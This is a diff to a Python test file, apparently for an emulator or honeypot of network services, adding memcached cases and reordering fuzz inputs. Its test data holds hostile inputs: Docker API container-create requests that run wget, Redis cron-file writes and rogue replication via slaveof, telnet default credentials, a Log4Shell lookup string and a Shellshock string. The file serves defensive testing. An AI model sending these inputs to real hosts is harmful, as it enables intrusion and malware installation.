@@ -52,12 +52,12 @@ OPENINGS: dict[str, tuple[bytes, ...]] = {
         b"GET /exec/%s?command=sh&tty=1 HTTP/1.1\r\nHost: a\r\nSec-WebSocket-Key: a\r\n\r\n" % PLACE,
         b"\x82\x8a\0\0\0\0\0", b"wget a/b\r",
     ),
+    "memcached": (
+        b"get a b\r\n", b"set a 0 0 5\r\n", b"abc", b"de\r\n", b"\x80\x01\0\x01\x08\0\0\0\0\0\0\x0c" + bytes(12),
+        bytes(8) + b"kv", b"vv",
+    ),
     "redis": (
-        b"POST /containers/create HTTP/1.1\r\nHost: a\r\nContent-Length: 46\r\n\r\n", b'{"Image":"alpine","Cmd":["wget","http://a/b"]}',
-    b"POST /images/create?fromImage=alpine HTTP/1.1\r\nHost: a\r\n\r\n", b"POST /build HTTP/1.1\r\nHost: a\r\n\r\n",
-    b"POST /run/%s?cmd=wget+a/b HTTP/1.1\r\nHost: a\r\n\r\n" % PLACE, b"\x82\x85\0\0\0\0\0id\r\n",
-    b"GET /exec/%s?command=sh&tty=1 HTTP/1.1\r\nHost: a\r\nSec-WebSocket-Key: a\r\n\r\n" % PLACE,
-    b"*2\r\n", b"$3\r\nGET\r\n$5\r\n", b"abcde\r\n", b"config set dir /etc/cron.d\r\n", b"set x '* * * * * id'\r\n",
+        b"*2\r\n", b"$3\r\nGET\r\n$5\r\n", b"abcde\r\n", b"config set dir /etc/cron.d\r\n", b"set x '* * * * * id'\r\n",
         b"slaveof 192.0.2.9 1\r\nmodule load x\r\n", b"*2\r\n$11\r\nsystem.exec\r\n$15\r\nwget http://a/b\r\n",
     ),
     "telnet": (b"\xff\xfd\x01", b"root\r\n", b"xc3511\r\n", b"sh\n", b"echo -e '\\x41", b"'\n", b"wget http://a/b\n"),
@@ -69,16 +69,19 @@ WORDS = [
     b"root\r\n", b"wget http://192.0.2.9/x", b"`", b"$(", b"${jndi:ldap://a/b}", b"|sh\n", b"<<E\n", b"'", b'"',
     b"() { :;};", b"exit\n", CONNECT, frame(b"OPEN", 7, 0, b"shell:wget http://192.0.2.9/x\0"),
     frame(b"OPEN", 8, 0, b"sync:\0"), frame(b"WRTE", 8, 1, b"SEND\x07\0\0\0/data/fDATA\x03\0\0\0abc"),
-    b"POST /containers/create HTTP/1.1\r\nHost: a\r\nContent-Length: 46\r\n\r\n", b'{"Image":"alpine","Cmd":["wget","http://a/b"]}',
+    b"*2\r\n", b"$3\r\nGET\r\n", b"$", b"config set dir /etc\r\n", b"set x 1\r\n", b"save\r\n", b"module load x\r\n",
+    b"slaveof 192.0.2.9 1\r\n", b"system.exec 'wget http://a/b'\r\n", frame(b"CLSE", 8, 1), frame(b"OKAY", 7, 1),
     b"POST /images/create?fromImage=alpine HTTP/1.1\r\nHost: a\r\n\r\n", b"POST /build HTTP/1.1\r\nHost: a\r\n\r\n",
-    b"*2\r\n", b"$3\r\nGET\r\n", b"$", b"config set dir /etc\r\n", b"set x 1\r\n", b"save\r\n",
-    b"slaveof 192.0.2.9 1\r\n",
-    b"module load x\r\n", b"system.exec 'wget http://a/b'\r\n", frame(b"CLSE", 8, 1), frame(b"OKAY", 7, 1),
+    b"POST /containers/create HTTP/1.1\r\nHost: a\r\nContent-Length: 46\r\n\r\n",
+    b'{"Image":"alpine","Cmd":["wget","http://a/b"]}', b"POST /run/%s?cmd=wget+a/b HTTP/1.1\r\nHost: a\r\n\r\n" % PLACE,
+    b"GET /exec/%s?command=sh&tty=1 HTTP/1.1\r\nHost: a\r\nSec-WebSocket-Key: a\r\n\r\n" % PLACE,
+    b"\x82\x85\0\0\0\0\0id\r\n", b"set a 0 0 5\r\n", b"stats\r\n", b"\0\1\0\0\0\1\0\0stats\r\n",
+    b"\x80\x0b" + bytes(22), b"\0\1\0\0\0\1\0\0set a 0 0 1\r\n1\r\n",
 ]  # fmt: skip
 
 FRONT = "front"  # no room of its own: telnet and HTTP on one port
 NAMES = (*ROOMS, FRONT)
-SERVED = [(name, "tcp") for name in NAMES] + [("catchall", "udp")]
+SERVED = [(name, "tcp") for name in NAMES] + [("catchall", "udp"), ("memcached", "udp")]
 names = pytest.mark.parametrize("name", NAMES)
 bounded = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
 
@@ -152,7 +155,7 @@ def test_every_byte_at_every_stage(name: str) -> None:
             table = talk(name)
             for piece in opening(name)[:stage]:
                 table.say(piece)
-            assert not table.fault, f"the opening is no fault: {table.fault}"
+            assert not table.over, f"the opening ends nothing: {table.fault}"
             table.say(bytes((value,)))
             table.say(bytes((value, 13, 10)))
             table.wait(30)
